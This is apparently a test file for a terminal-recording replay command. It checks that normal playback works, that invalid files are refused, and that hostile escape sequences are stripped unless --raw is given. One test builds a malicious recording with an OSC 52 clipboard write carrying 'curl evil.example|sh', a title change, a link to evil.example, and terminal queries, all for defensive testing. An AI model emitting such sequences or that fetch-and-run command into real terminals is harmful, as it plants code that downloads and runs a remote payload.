import { describe, expect, it } from "@effect/vitest"
import { spawnSync } from "node:child_process"
import * as fs from "node:fs"
import * as os from "node:os"
import * as path from "node:path"
import { built } from "../daemon/support.js"
import { cliBin } from "../support/mcp.js"

describe.runIf(built)("agent-terminal replay FILE", () => {
  it("plays a recording's output in order and refuses a file that is not one", () => {
    const dir = fs.mkdtempSync(path.join(os.tmpdir(), "at-replay-"))
    const file = path.join(dir, "s.cast")
    fs.writeFileSync(
      file,
      [
        JSON.stringify({ version: 2, width: 80, height: 24 }),
        JSON.stringify([0.05, "o", "first "]),
        JSON.stringify([0.1, "m", "send: echo x → prompt, exit 0"]),
        JSON.stringify([0.2, "r", "100x30"]),
        JSON.stringify([0.3, "i", "[human typed 9 bytes with echo off]"]),
        JSON.stringify([0.4, "o", "一二三\r\n"])
      ].join("\n")
    )
    const played = spawnSync(process.execPath, [cliBin, "replay", file, "--speed", "10"], { encoding: "utf8" })
    expect(played.status).toBe(0)
    expect(played.stdout).toBe("first 一二三\r\n")
    fs.writeFileSync(file, "not a cast\n")
    const refused = spawnSync(process.execPath, [cliBin, "replay", file], { encoding: "utf8" })
    expect(refused.status).toBe(1)
    expect(refused.stderr).toContain("is not an asciicast v2 recording")
    fs.rmSync(dir, { recursive: true, force: true })
  })

  it("leaves out what acts outside the screen (OSC 52, titles, links, DCS, queries) unless --raw, which says so", () => {
    const dir = fs.mkdtempSync(path.join(os.tmpdir(), "at-replay-"))
    const file = path.join(dir, "evil.cast")
    const clipboard = `\x1b]52;c;${Buffer.from("curl evil.example|sh").toString("base64")}\x07`
    const title = "\x1b]0;pwned title\x1b\\"
    const link = "\x1b]8;;https://evil.example/\x1b\\click\x1b]8;;\x1b\\"
    const dcs = "\x1bP$qm\x1b\\"
    const queries = "\x1b[c\x1b[6n\x1b[18t\x1b[?1000h\x1b[?2004;25h"
    // split across events, as a pty's reads split them
    const output = `plain ${clipboard}${title} ${link} \x1b[31mred\x1b[0m ${dcs}${queries}end\r\n`
    const events = [output.slice(0, 9), output.slice(9, 30), output.slice(30, 61), output.slice(61)]
    fs.writeFileSync(
      file,
      [
        JSON.stringify({ version: 2, width: 80, height: 24 }),
        ...events.map((text, i) => JSON.stringify([0.01 * (i + 1), "o", text]))
      ].join("\n")
    )
    const safe = spawnSync(process.execPath, [cliBin, "replay", file, "--speed", "100"], { encoding: "utf8" })
    expect(safe.status).toBe(0)
    for (const acting of ["\x1b]52", "\x1b]0", "\x1b]8", "\x1bP", "\x1b[c", "\x1b[6n", "\x1b[18t", "1000h", "2004"]) {
      expect(safe.stdout).not.toContain(acting)
    }
    expect(safe.stdout).toBe("plain  click \x1b[31mred\x1b[0m \x1b[?25hend\r\n")
    expect(safe.stderr).toContain("left out 9 escape sequences")
    const raw = spawnSync(process.execPath, [cliBin, "replay", file, "--speed", "100", "--raw"], { encoding: "utf8" })
    expect(raw.status).toBe(0)
    expect(raw.stdout).toBe(output)
    expect(raw.stderr).toContain("--raw: the recording's bytes as recorded")
    fs.rmSync(dir, { recursive: true, force: true })
  })
})
